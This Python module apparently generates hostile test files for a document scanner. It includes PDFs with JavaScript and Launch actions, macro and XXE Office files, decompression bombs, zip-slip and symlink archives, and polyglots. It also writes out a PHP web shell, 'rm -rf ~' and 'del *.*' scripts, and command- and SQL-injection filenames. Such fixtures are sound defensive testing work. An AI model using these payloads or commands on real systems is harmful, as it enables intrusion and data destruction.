"""Files made to harm: built here, byte by byte, so that none need be kept. Each says what must be noticed about it."""

from __future__ import annotations

import io
import os
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

MIB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Sample:
    """A file and the marks it must get: `refused`, a reading (`reading:locked`), a form (`form:program`), a trait
    (`trait:macro`), a finding (`finding:extension-wrong`). *harmless* ones must get no mark of danger.
    """

    group: str
    path: Path
    marks: frozenset[str]
    harmless: bool = False


@dataclass(frozen=True, slots=True)
class Trap:
    """A zip; *refused* says that not a byte of it may be unpacked."""

    path: Path
    refused: bool


Build = Callable[[Path], None]


def samples(folder: Path) -> tuple[Sample, ...]:
    """Build every file below *folder*."""
    made: list[Sample] = []
    for group, build in _GROUPS.items():
        place = folder / group
        place.mkdir(parents=True)
        made += [Sample(group, path, frozenset(marks), harmless) for path, marks, harmless in build(place)]
    return tuple(made)


Made = Iterator[tuple[Path, tuple[str, ...], bool]]


# PDFs


def pdf(pages: int = 1, text: str = "Notulen rapat") -> Pdf:
    made = Pdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
        page = made.pages[-1]
        page.Contents = made.make_stream(b"BT /F1 12 Tf 72 720 Td (" + text.encode() + b") Tj ET")
        page.Resources = Dictionary(Font=Dictionary(F1=font))
    return made


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _open_script(made: Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(_script())


def _named_script(made: Pdf) -> None:
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(_script())]))
    )


def _page_script(made: Pdf) -> None:
    made.pages[0].AA = Dictionary(O=_script())


def _button_script(made: Pdf) -> None:
    given = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Rect=Array([0, 0, 9, 9]), A=_script()
    )
    button = made.make_indirect(given)
    made.pages[0].Annots = Array([button])
    made.Root.AcroForm = Dictionary(Fields=Array([button]))


def _streamed_script(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))


def _form_script(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))


def _launch(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("calc.exe"))


def _linked_launch(made: Pdf) -> None:
    action = Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c dir")))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    made.pages[0].Annots = Array([made.make_indirect(link)])


def _attachment(made: Pdf) -> None:
    made.attachments["jadwal.exe"] = b"MZ" + bytes(100)


def _note_attachment(made: Pdf) -> None:
    kept = made.make_stream(b"MZ" + bytes(10))
    kept.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=kept))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
    made.pages[0].Annots = Array([made.make_indirect(note)])


def _sends(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("http://contoh.invalid/"))


_PDF_DANGERS: dict[str, tuple[Callable[[Pdf], None], tuple[str, ...]]] = {
    "skrip-saat-buka": (_open_script, ("trait:script", "finding:pdf-script")),
    "skrip-bernama": (_named_script, ("trait:script",)),
    "skrip-halaman": (_page_script, ("trait:script",)),
    "skrip-tombol": (_button_script, ("trait:script",)),
    "skrip-aliran": (_streamed_script, ("trait:script",)),
    "skrip-formulir": (_form_script, ("trait:script",)),
    "jalankan": (_launch, ("trait:launch", "finding:pdf-launch")),
    "jalankan-tautan": (_linked_launch, ("trait:launch",)),
    "lampiran": (_attachment, ("trait:attachment", "finding:document-attachment")),
    "lampiran-catatan": (_note_attachment, ("trait:attachment",)),
    "kirim": (_sends, ("trait:form-sends", "finding:pdf-form-sends")),
}


def _saved(made: Pdf, how: str) -> bytes:
    out = io.BytesIO()
    if how == "padat":
        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    elif how == "sandi-kosong":
        made.save(out, encryption=pikepdf.Encryption(owner="rahasia", user="", R=6))
    else:
        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return _escaped(out.getvalue()) if how == "heksa" else out.getvalue()


def _escaped(data: bytes) -> bytes:
    """The telling names written with hex digits; offsets move, so that the reader must mend the table too."""
    for name in (
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/EmbeddedFiles",
        b"/EF",
        b"/SubmitForm",
        b"/XFA",
        b"/EmbeddedFile",
    ):
        hidden = b"/" + b"".join(
            b"#%02x" % byte if at % 2 else bytes([byte]) for at, byte in enumerate(name[1:])
        )
        for end in (b" ", b"\n", b"/", b"<", b">", b"[", b"("):
            data = data.replace(name + end, hidden + end)
    return data


def _dangerous_pdfs(folder: Path) -> Made:
    for name, (harm, marks) in _PDF_DANGERS.items():
        for how in ("polos", "padat", "heksa", "sandi-kosong"):
            made = pdf()
            harm(made)
            path = folder / f"{name} {how}.pdf"
            path.write_bytes(_saved(made, how))
            yield path, ("form:pdf", *marks), False


def _locked_pdf() -> bytes:
    out = io.BytesIO()
    pdf().save(out, encryption=pikepdf.Encryption(owner="a", user="rahasia", R=6))
    return out.getvalue()


def _stuffed_pdf() -> bytes:
    """A page whose content unpacks to 200 MB."""
    made = pdf()
    packed = zlib.compress(bytes(200 * MIB), 9)
    made.pages[0].Contents = Stream(made, packed, Filter=Name.FlateDecode)
    return _saved(made, "padat")


def _raw_pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj %s endobj\n" % (at, one) for at, one in enumerate(objects, start=1))
    return b"%PDF-1.5\n" + body + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def _broken_pdfs(folder: Path) -> Made:
    whole = _saved(pdf(3), "padat")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    given: dict[str, tuple[bytes, tuple[str, ...]]] = {
        "kosong": (b"", ("refused",)),
        "kepala saja": (b"%PDF-1.7\n", ("reading:broken", "finding:document-unreadable")),
        "terpotong": (whole[: len(whole) // 3], ("form:pdf",)),
        "sampah": (b"%PDF-1.4\n" + bytes(range(256)) * 400, ("form:pdf",)),
        "terkunci": (_locked_pdf(), ("reading:locked", "finding:document-locked")),
        "tanpa halaman": (
            _raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"),
            ("finding:document-empty|finding:document-unreadable",),
        ),
        "pohon berputar": (
            _raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
            ("form:pdf",),
        ),
        "mengaku sejuta": (
            _raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>", page),
            ("form:pdf",),
        ),
        "bersarang": (
            _raw_pdf(
                b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, b"[" * 50_000
            ),
            ("form:pdf",),
        ),
        "mengembang": (_stuffed_pdf(), ("form:pdf",)),
        "rujukan berputar": (
            _raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"3 0 R"),
            ("form:pdf",),
        ),
    }
    for name, (data, marks) in given.items():
        path = folder / f"{name}.pdf"
        path.write_bytes(data)
        yield path, marks, False


# Office files

_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx(
    text: str = "Notulen rapat", *, main: str = _WORD, more: dict[str, bytes] | None = None, xml: str = ""
) -> bytes:
    types = _TYPES.format(f'<Override PartName="/word/document.xml" ContentType="{main}"/>')
    body = (
        xml
        or f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    )
    return zipped({"[Content_Types].xml": types.encode(), "word/document.xml": body.encode(), **(more or {})})


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def ole(*streams: str) -> bytes:
    """What begins like an OLE file and names *streams*; enough for what is told by the names alone."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return head + b"".join(one.encode("utf-16-le").ljust(128, b"\0") for one in streams) + bytes(1024)


_LAUGHS = (
    '<!DOCTYPE z [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
_REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://contoh.invalid/a.dotm" TargetMode="External"/></Relationships>'
)


def _office(folder: Path) -> Made:
    macro = {"word/vbaProject.bin": ole("_VBA_PROJECT")}
    text = f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>&z;</w:t></w:r></w:p></w:body></w:document>'
    outside = '<!DOCTYPE z [<!ENTITY z SYSTEM "file:///etc/hostname">]>'
    bomb = f'<w:document xmlns:w="{_W}">{" " * (80 * MIB)}</w:document>'
    whole = docx()
    given: dict[str, tuple[bytes, tuple[str, ...]]] = {
        "makro.docm": (
            docx(main=_MACRO_WORD, more=macro),
            ("form:docm", "trait:macro", "finding:office-macro"),
        ),
        "makro.docx": (docx(main=_MACRO_WORD, more=macro), ("trait:macro", "finding:extension-wrong")),
        "makro tersembunyi.docx": (docx(more=macro), ("trait:macro",)),
        "lembar makro.xlsx": (
            zipped(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/workbook.xml": b"<w/>",
                    "xl/macrosheets/s1.xml": b"<m/>",
                }
            ),
            ("form:xlsx", "trait:macro"),
        ),
        "makro.odt": (
            zipped(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.text",
                    "content.xml": b"<a/>",
                    "Basic/s.xml": b"<b/>",
                }
            ),
            ("form:odt", "trait:macro"),
        ),
        "templat luar.docx": (
            docx(more={"word/_rels/settings.xml.rels": _REMOTE.encode()}),
            ("trait:outside",),
        ),
        "tertanam.docx": (docx(more={"word/embeddings/oleObject1.bin": ole("x")}), ("trait:attachment",)),
        "entitas.docx": (docx(xml=_LAUGHS + text), ("reading:broken",)),
        "entitas luar.docx": (docx(xml=outside + text), ("reading:broken",)),
        "mengembang.docx": (docx(xml=bomb), ("reading:broken",)),
        "terpotong.docx": (whole[: len(whole) // 2], ("reading:broken",)),
        "bukan xml.docx": (docx(xml="<w:document"), ("reading:broken",)),
        "terkunci.docx": (ole("EncryptedPackage", "EncryptionInfo"), ("reading:locked",)),
        "makro.doc": (ole("WordDocument", "Macros", "_VBA_PROJECT"), ("form:doc", "trait:macro")),
        "pemasang.doc": (ole("\u4840\u3f3f"), ("form:ole",)),
        "tumpang tindih.docx": (overlapping(), ("reading:broken",)),
    }
    for name, (data, marks) in given.items():
        path = folder / name
        path.write_bytes(data)
        yield path, marks, False


# What is not what its name says

_PROGRAMS: dict[str, tuple[bytes, str]] = {
    "windows": (b"MZ\x90\0" + bytes(200) + b"PE\0\0" + bytes(400), "form:program"),
    "linux": (b"\x7fELF\x02\x01\x01" + bytes(500), "form:program"),
    "mac": (b"\xcf\xfa\xed\xfe" + bytes(500), "form:program"),
    "java": (b"\xca\xfe\xba\xbe" + bytes(500), "form:program"),
    "cangkang": (b"#!/bin/sh\nrm -rf ~\n", "form:script"),
    "batch": (b"@echo off\r\ndel *.*\r\n", "form:script"),
    "php": (b"<?php system($_GET['x']); ?>", "form:script"),
    "pintasan": (b"L\0\0\0\x01\x14\x02\0" + bytes(100), "form:shortcut"),
    "alamat": (b"[InternetShortcut]\r\nURL=file://server/x.exe\r\n", "form:shortcut"),
    "web": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "form:html"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "form:svg"),
}


def _renamed(folder: Path) -> Made:
    for name, (data, form) in _PROGRAMS.items():
        for extension in ("pdf", "jpg", "docx"):
            path = folder / f"{name}.{extension}"
            path.write_bytes(data)
            danger = form not in ("form:html", "form:svg")
            marks = (form, "kind:other", "finding:extension-wrong", *(("trait:program",) if danger else ()))
            yield path, marks, False


def jpeg(width: int = 1200, height: int = 900) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(out, "JPEG")
    return out.getvalue()


def png(width: int = 1200, height: int = 900) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (width, height), 255).save(out, "PNG")
    return out.getvalue()


def _huge_png() -> bytes:
    """A few bytes that claim to be 60,000 by 60,000 dots."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def _two_faced(folder: Path) -> Made:
    paper, archive = _saved(pdf(), "polos"), zipped({"x.exe": b"MZ"})
    given: dict[str, tuple[bytes, tuple[str, ...]]] = {
        "gif dan pdf.pdf": (b"GIF89a" + bytes(20) + paper, ("trait:two-faced", "finding:document-two-faced")),
        "program dan pdf.pdf": (
            b"MZ" + bytes(60) + paper,
            ("form:program", "kind:other", "trait:two-faced", "finding:extension-wrong"),
        ),
        "web dan pdf.pdf": (b"<html><script>alert(1)</script>" + paper, ("kind:other", "trait:two-faced")),
        "pdf dan zip.pdf": (paper + archive, ("trait:two-faced",)),
        "gambar dan zip.jpg": (jpeg() + archive, ("trait:two-faced",)),
        "png dan zip.png": (png() + archive, ("trait:two-faced",)),
        "sampah di depan.pdf": (b"x" * 500 + paper, ("kind:other", "trait:two-faced")),
    }
    for name, (data, marks) in given.items():
        path = folder / name
        path.write_bytes(data)
        yield path, marks, False


def _pictures(folder: Path) -> Made:
    whole = jpeg()
    loop = (
        b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 3, 1, 9) + struct.pack("<I", 8)
    )
    given: dict[str, tuple[bytes, tuple[str, ...]]] = {
        "mengaku raksasa.png": (_huge_png(), ("reading:broken",)),
        "terpotong.jpg": (whole[:100], ("form:jpeg",)),
        "berputar.tif": (loop, ("form:tiff",)),
        "sampah.png": (b"\x89PNG\r\n\x1a\n" + bytes(300), ("reading:broken",)),
        "kecil.png": (png(120, 90), ("finding:image-tiny",)),
        "jpeg bernama.png": (whole, ("form:jpeg", "finding:extension-wrong")),
    }
    for name, (data, marks) in given.items():
        path = folder / name
        path.write_bytes(data)
        yield path, marks, False


# Names and places


def _places(folder: Path) -> Made:
    fifo = folder / "pipa.pdf"
    os.mkfifo(fifo)
    yield fifo, ("refused", "reading:not-a-file"), False
    target = folder / "asli.pdf"
    target.write_bytes(_saved(pdf(), "polos"))
    yield target, ("form:pdf",), True
    link = folder / "pintasan.pdf"
    link.symlink_to(target)
    yield link, ("refused", "reading:not-a-file"), False
    device = folder / "perangkat.pdf"
    device.symlink_to("/dev/zero")
    yield device, ("refused", "reading:not-a-file"), False
    directory = folder / "folder.pdf"
    directory.mkdir()
    yield directory, ("refused", "reading:not-a-file"), False
    for name, size, marks in (
        ("renggang 4 GB.pdf", 4 * 1024 * MIB, ("refused", "reading:too-large")),
        ("renggang 4 GB.docx", 4 * 1024 * MIB, ("refused", "reading:too-large")),
    ):
        path = folder / name
        with path.open("wb") as file:
            file.write(b"%PDF-1.4\n" if name.endswith("pdf") else b"PK\x03\x04")
            file.truncate(size)
        yield path, marks, False


def _names(folder: Path) -> Made:
    paper = _saved(pdf(), "polos")
    twin = "Keputusan kafé.pdf"
    given: dict[str, tuple[tuple[str, ...], bool]] = {
        "SK \u202efdp.exe.pdf": (("finding:name-disguised",), False),
        "SK\u200bTim.pdf": (("finding:name-disguised",), False),
        "baris\nbaru.pdf": (("finding:name-disguised",), False),
        "CON.pdf": (("form:pdf",), True),
        "aux.pdf": (("form:pdf",), True),
        "LPT1.pdf": (("form:pdf",), True),
        "nul .pdf": (("form:pdf",), True),
        "-rf.pdf": (("form:pdf",), True),
        "$(reboot).pdf": (("form:pdf",), True),
        "'; DROP TABLE documents; --.pdf": (("form:pdf",), True),
        "..pdf": (("form:pdf",), True),
        "titik akhir.pdf.": (("form:pdf",), True),
        "a" * 251 + ".pdf": (("form:pdf",), True),
        unicodedata.normalize("NFC", twin): (("form:pdf",), True),
        unicodedata.normalize("NFD", twin): (("form:pdf",), True),
        "laporan 📄.pdf": (("form:pdf",), True),
    }
    for name, (marks, harmless) in given.items():
        path = folder / name
        path.write_bytes(paper)
        yield path, marks, harmless


def _harmless(folder: Path) -> Made:
    """What units really have: none of it may be called dangerous."""
    signed = pdf()
    field = Dictionary(
        FT=Name.Sig, V=Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("x"))
    )
    signed.Root.AcroForm = Dictionary(Fields=Array([signed.make_indirect(field)]), SigFlags=3)
    linked = pdf()
    uri = Dictionary(S=Name.URI, URI=String("https://contoh.invalid/"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=uri)
    linked.pages[0].Annots = Array([linked.make_indirect(link)])
    given: dict[str, tuple[bytes, tuple[str, ...]]] = {
        "Notulen rapat.pdf": (_saved(pdf(), "polos"), ("form:pdf", "reading:read")),
        "Laporan tahunan.pdf": (_saved(pdf(40), "padat"), ("form:pdf", "reading:read")),
        "SK bertanda tangan.pdf": (_saved(signed, "polos"), ("form:pdf", "reading:read")),
        "Panduan bertautan.pdf": (_saved(linked, "padat"), ("form:pdf", "reading:read")),
        "Rencana.docx": (docx(), ("form:docx", "reading:read")),
        "Foto maklumat.jpg": (jpeg(), ("form:jpeg", "reading:read")),
        "Denah.png": (png(), ("form:png", "reading:read")),
        "Catatan.txt": (b"Rapat dibuka pukul 09.00.\n", ("form:text", "reading:read")),
        "Rekap.csv": (b"nama;nilai\nUnit A;3,6\n", ("form:text", "reading:read")),
        "Surat lama.doc": (ole("WordDocument"), ("form:doc",)),
    }
    for name, (data, marks) in given.items():
        path = folder / name
        path.write_bytes(data)
        yield path, marks, True


_GROUPS: dict[str, Callable[[Path], Made]] = {
    "pdf berbahaya": _dangerous_pdfs,
    "pdf rusak": _broken_pdfs,
    "office": _office,
    "ganti nama": _renamed,
    "muka dua": _two_faced,
    "gambar": _pictures,
    "tempat": _places,
    "nama": _names,
    "wajar": _harmless,
}


# Zips


def overlapping(members: int = 200) -> bytes:
    """Many names for the same bytes."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(MIB)) + kernel.flush()
    name, crc = b"a", zlib.crc32(bytes(MIB))
    local = (
        struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), MIB, len(name), 0)
        + name
        + packed
    )
    rows = b""
    for number in range(members):
        own = b"a" if number == 0 else b"a%d" % number
        rows += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            33,
            crc,
            len(packed),
            MIB,
            len(own),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        rows += own
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, members, members, len(rows), len(local), 0)
    return local + rows + end


def _one(name: str, data: bytes = b"x", **changes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.filename = name
        info.external_attr = changes.get("attributes", 0o644 << 16)
        archive.writestr(info, data, changes.get("method", zipfile.ZIP_STORED))
    return out.getvalue()


def _many(names: list[str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, b"")
    return out.getvalue()


def _twice() -> bytes:
    nfc, nfd = (unicodedata.normalize(form, "kafé.pdf") for form in ("NFC", "NFD"))
    return _many([nfc, nfd])


def _flagged(data: bytes, flag: int) -> bytes:
    """*data* with a flag set in both headers of its only member."""
    central = data.index(b"PK\1\2")
    made = bytearray(data)
    made[6] |= flag
    made[central + 8] |= flag
    return bytes(made)


def traps(folder: Path) -> tuple[Trap, ...]:
    """Zips to import: every one but the last few must be refused whole."""
    folder.mkdir(parents=True)
    whole = zipped({"A. PENGUNGKIT/1.a SK Tim.pdf": b"%PDF-1.4", "A. PENGUNGKIT/foto.jpg": b"x"})
    bomb = zipped({"bom.txt": bytes(64 * MIB)})
    crc = bytearray(_one("a.txt", b"isi"))
    crc[14] ^= 0xFF
    crc[crc.index(b"PK\1\2") + 16] ^= 0xFF
    refused: dict[str, bytes] = {
        "ke atas": _one("../../keluar.txt"),
        "ke atas dalam": _one("a/../../keluar.txt"),
        "mutlak": _one("/tmp/keluar.txt"),
        "garis miring balik": _one("..\\..\\keluar.txt"),
        "huruf diska": _one("C:/keluar.txt"),
        "aliran": _one("a.txt:rahasia"),
        "kosong": _one("a//b.txt"),
        "titik": _one("./a.txt"),
        "perangkat": _one("CON.pdf"),
        "perangkat dalam": _one("a/aux.txt"),
        "arah tulisan": _one("SK \u202efdp.exe"),
        "nol": _one("a\x01.txt"),
        "titik akhir": _one("a.txt."),
        "spasi akhir": _one("a /b.txt"),
        "pintasan": _one("tautan", b"/etc/passwd", attributes=0o120777 << 16),
        "pipa": _one("pipa", attributes=0o010644 << 16),
        "tujuh puluh ribu": _many([f"{number}.txt" for number in range(70_000)]),
        "tumpang tindih": overlapping(),
        "mengembang": bomb,
        "kembar": _many(["a.pdf", "A.PDF"]),
        "kembar urai": _twice(),
        "terkunci": _flagged(_one("a.txt"), 1),
        "cara lain": _one("a.txt", b"x" * 100, method=zipfile.ZIP_BZIP2),
        "terpotong": whole[: len(whole) // 2],
        "sampah": os.urandom(5000),
        "jumlah salah": bytes(crc),
    }
    accepted = {
        "wajar": whole,
        "dalam zip": zipped({"luar.zip": bomb[:1000]}),
        "nama panjang": _one("a" * 300 + ".pdf"),
    }
    made = []
    for group, is_refused in ((refused, True), (accepted, False)):
        for name, data in group.items():
            path = folder / f"{name}.zip"
            path.write_bytes(data)
            made.append(Trap(path, is_refused))
    return tuple(made)
